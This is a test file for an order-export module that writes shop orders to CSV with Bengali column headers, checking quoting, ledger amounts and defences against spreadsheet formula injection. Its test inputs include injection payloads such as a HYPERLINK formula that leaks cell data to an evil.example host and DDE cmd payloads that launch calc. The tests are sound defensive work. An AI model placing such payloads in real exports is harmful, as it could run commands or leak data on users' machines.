import { parse } from 'csv-parse/sync';
import { toAdminOrder } from './admin-order';
import { CSV_BYTE_ORDER_MARK, ordersCsvFileName, ordersCsvHeader, ordersCsvRows } from './orders-csv';

const order = (id: string, changes: Record<string, unknown> = {}) =>
  toAdminOrder(id, {
    product_name: 'আমের আচার',
    product_price: 250.5,
    quantity: 2,
    total_amount: 501,
    customer_name: 'রহিম উদ্দিন',
    customer_phone: '01712345678',
    customer_email: 'r@example.com',
    customer_address: 'জিনজিরা, কেরানীগঞ্জ',
    payment_method: 'cash_on_delivery',
    status: 'confirmed',
    created_at: new Date('2026-11-20T18:05:00Z'),
    ...changes,
  });

describe('the orders CSV', () => {
  it('starts with a byte-order mark so Excel reads it as UTF-8, then a Bengali header row', () => {
    const header = ordersCsvHeader();
    expect(header.startsWith(CSV_BYTE_ORDER_MARK)).toBe(true);
    expect(header.endsWith('\r\n')).toBe(true);
    expect(header).toContain('"অর্ডার নম্বর","তারিখ ও সময় (ঢাকা)","স্ট্যাটাস","গ্রাহকের নাম"');
  });

  it('writes one row per order that a CSV reader gives back field for field, Bengali and commas included', () => {
    const text =
      ordersCsvHeader() +
      ordersCsvRows([
        order('order-0000AAAA'),
        order('order-0000BBBB', {
          customer_address: 'বাড়ি ১২, রোড "৫", ধানমন্ডি\nঢাকা',
          payment_method: 'bkash',
          payment_state: 'verified',
          payment_trxid: 'BK7Q2M9XA4',
          status: 'delivered',
          courier_tracking_code: '15BAEB8A',
          courier_state: 'delivered',
          courier_collected: 501,
          courier_payout_reference: 'SF-991',
          courier_paid_on: '2026-11-28',
        }),
      ]);
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(2);
    expect(rows[0]).toEqual({
      'অর্ডার নম্বর': '0000AAAA',
      'তারিখ ও সময় (ঢাকা)': '2026-11-21 00:05',
      স্ট্যাটাস: 'নিশ্চিত',
      'গ্রাহকের নাম': 'রহিম উদ্দিন',
      ফোন: '01712345678',
      'ই-মেইল': 'r@example.com',
      ঠিকানা: 'জিনজিরা, কেরানীগঞ্জ',
      পণ্য: 'আমের আচার',
      পরিমাণ: '2',
      'প্রতি বয়ামের দাম (৳)': '250.5',
      'মোট (৳)': '501',
      পেমেন্ট: 'ক্যাশ অন ডেলিভারি',
      'পেমেন্টের অবস্থা': 'ক্যাশ অন ডেলিভারি',
      TrxID: '',
      'পরিশোধিত (৳)': '0',
      'ফেরত দেওয়া হয়েছে (৳)': '0',
      'ফেরত দিতে হবে (৳)': '0',
      'আদায় করতে হবে (৳)': '501',
      'ফেরতের TrxID': '',
      'কুরিয়ার ট্র্যাকিং কোড': '',
      'কুরিয়ারের অবস্থা': '',
      'কুরিয়ার আদায় করেছে (৳)': '',
      'কুরিয়ারের পেমেন্টের রেফারেন্স': '',
      'কুরিয়ারের পেমেন্টের তারিখ': '',
      'পূর্ণ অর্ডার নম্বর': 'order-0000AAAA',
    });
    expect(rows[1]['ঠিকানা']).toBe('বাড়ি ১২, রোড "৫", ধানমন্ডি\nঢাকা');
    expect(rows[1]['পেমেন্ট']).toBe('বিকাশ');
    expect(rows[1]['পেমেন্টের অবস্থা']).toBe('পরিশোধিত');
    expect(rows[1].TrxID).toBe('BK7Q2M9XA4');
    expect(rows[1]['স্ট্যাটাস']).toBe('সরবরাহ');
    expect(rows[1]['কুরিয়ার ট্র্যাকিং কোড']).toBe('15BAEB8A');
    expect(rows[1]['কুরিয়ারের অবস্থা']).toBe('কুরিয়ার সরবরাহ করেছে');
    expect(rows[1]['কুরিয়ার আদায় করেছে (৳)']).toBe('501');
    expect(rows[1]['কুরিয়ারের পেমেন্টের রেফারেন্স']).toBe('SF-991');
    expect(rows[1]['কুরিয়ারের পেমেন্টের তারিখ']).toBe('2026-11-28');
  });

  it('writes what was paid, refunded, is owed back and is left to collect, as the ledger reads them', () => {
    const rows = parse(
      ordersCsvHeader() +
        ordersCsvRows([
          order('refunded', {
            status: 'cancelled',
            payment_method: 'bkash',
            payment_state: 'verified',
            paid_amount: 501,
            refunded_amount: 200,
            refund_trxid: 'RF7Q2M9XA4',
          }),
          order('balance', { payment_method: 'nagad', payment_state: 'verified', paid_amount: 300 }),
        ]),
      { bom: true, columns: true },
    ) as Record<string, string>[];
    expect(rows[0]).toMatchObject({
      'পরিশোধিত (৳)': '501',
      'ফেরত দেওয়া হয়েছে (৳)': '200',
      'ফেরত দিতে হবে (৳)': '301',
      'আদায় করতে হবে (৳)': '0',
      'ফেরতের TrxID': 'RF7Q2M9XA4',
    });
    expect(rows[1]).toMatchObject({
      'পরিশোধিত (৳)': '300',
      'ফেরত দিতে হবে (৳)': '0',
      'আদায় করতে হবে (৳)': '201',
    });
  });

  it('makes text that a spreadsheet would run as a formula inert', () => {
    const rows = parse(ordersCsvRows([order('x', { customer_name: '=HYPERLINK("http://evil")' })]), {
      bom: true,
    }) as string[][];
    expect(rows[0][3]).toBe('\'=HYPERLINK("http://evil")');
  });

  it('quotes every text cell and writes numbers bare, so numbers stay numbers', () => {
    const row = ordersCsvRows([
      order('order-0000AAAA', { quantity: 3, product_price: 250.5, total_amount: 751.5 }),
    ]);
    expect(row).toBe(
      [
        '"0000AAAA"',
        '"2026-11-21 00:05"',
        '"নিশ্চিত"',
        '"রহিম উদ্দিন"',
        '"01712345678"',
        '"r@example.com"',
        '"জিনজিরা, কেরানীগঞ্জ"',
        '"আমের আচার"',
        '3',
        '250.5',
        '751.5',
        '"ক্যাশ অন ডেলিভারি"',
        '"ক্যাশ অন ডেলিভারি"',
        '""',
        '0',
        '0',
        '0',
        '751.5',
        '""',
        '""',
        '""',
        '""',
        '""',
        '""',
        '"order-0000AAAA"',
      ].join(',') + '\r\n',
    );
  });

  it.each([
    // The issue's: a spreadsheet splitting on ';' would read '=cmd|…' as a cell of its own, unquoted.
    ["x;=cmd|' /C calc'!A0", "x;=cmd|' /C calc'!A0"],
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"বিস্তারিত")',
      '\'=HYPERLINK("http://evil.example/?leak="&A1,"বিস্তারিত")',
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+8801712345678', "'+8801712345678"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
    ['＝1+1', "'＝1+1"],
    // A leading tab, CR or spaces are dropped when the order is read for display; the '=' is still caught.
    ['\t=1+1', "'=1+1"],
    ['\r=1+1', "'=1+1"],
    ['  =1+1', "'=1+1"],
    ['রহিম = ভালো', 'রহিম = ভালো'],
  ])('writes %j quoted and inert', (name, cell) => {
    const text = ordersCsvRows([order('x', { customer_name: name })]);
    expect((parse(text) as string[][])[0][3]).toBe(cell);
  });

  /**
   * How a spreadsheet set to another separator reads the file: a cell that starts with '"' runs to its closing
   * quote (a doubled quote is one), and anything after it up to the separator joins the same cell.
   */
  function cellsSplitOn(line: string, separator: string): string[] {
    const cells: string[] = [];
    let cell = '';
    let quoted = false;
    for (let index = 0; index < line.length; index += 1) {
      const char = line[index];
      if (quoted) {
        if (char === '"' && line[index + 1] === '"') {
          cell += '"';
          index += 1;
        } else if (char === '"') quoted = false;
        else cell += char;
      } else if (char === '"') quoted = true;
      else if (char === separator) {
        cells.push(cell);
        cell = '';
      } else cell += char;
    }
    return [...cells, cell];
  }

  it.each([';', ',', '\t'])(
    'starts no cell with a formula in a spreadsheet that splits on %j',
    (separator) => {
      const line = ordersCsvRows([
        order('x', {
          customer_name: "x;=cmd|' /C calc'!A0",
          customer_address: 'রোড ৩,=HYPERLINK("http://evil.example")\t=1+1',
          product_name: '@SUM(1+9)',
        }),
      ]).trimEnd();
      const cells = cellsSplitOn(line, separator);
      expect(cells.length).toBeGreaterThan(0);
      for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@]/);
    },
  );

  it('names the file for its range and status', () => {
    expect(ordersCsvFileName('2026-11-01', '2026-11-30', 'all')).toBe('orders-2026-11-01-to-2026-11-30.csv');
    expect(ordersCsvFileName('2026-11-01', '2026-11-30', 'confirmed')).toBe(
      'orders-2026-11-01-to-2026-11-30-confirmed.csv',
    );
  });
});
